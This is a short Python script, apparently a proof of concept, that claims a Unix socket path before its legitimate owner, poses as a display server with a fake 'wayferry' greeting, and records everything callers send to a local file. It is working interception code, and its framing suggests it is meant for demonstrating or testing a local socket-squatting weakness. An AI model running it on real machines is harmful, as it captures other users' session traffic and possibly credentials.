#!/usr/bin/env python3
"""Takes a socket's name before its owner does, as another user of the machine could.

Use: squatter.py PATH. Each caller is greeted as a display would greet a session, and what it says is written to
`squatter-heard` in the working directory. Ends after a caller that says `enough`.
"""

import os
import socket
import sys

path = sys.argv[1]
listener = socket.socket(socket.AF_UNIX)
listener.bind(path)
os.chmod(path, 0o777)
listener.listen()
heard = b""
with open("squatter-heard", "wb", buffering=0) as out:
    while not heard.endswith(b"enough\n"):
        caller, _ = listener.accept()
        try:
            caller.sendall(b"wayferry 1 " + b"ab" * 32 + b"\n")
            while piece := caller.recv(4096):
                heard += piece
                out.write(piece)
        except OSError:
            pass  # The caller has left.
os.unlink(path)
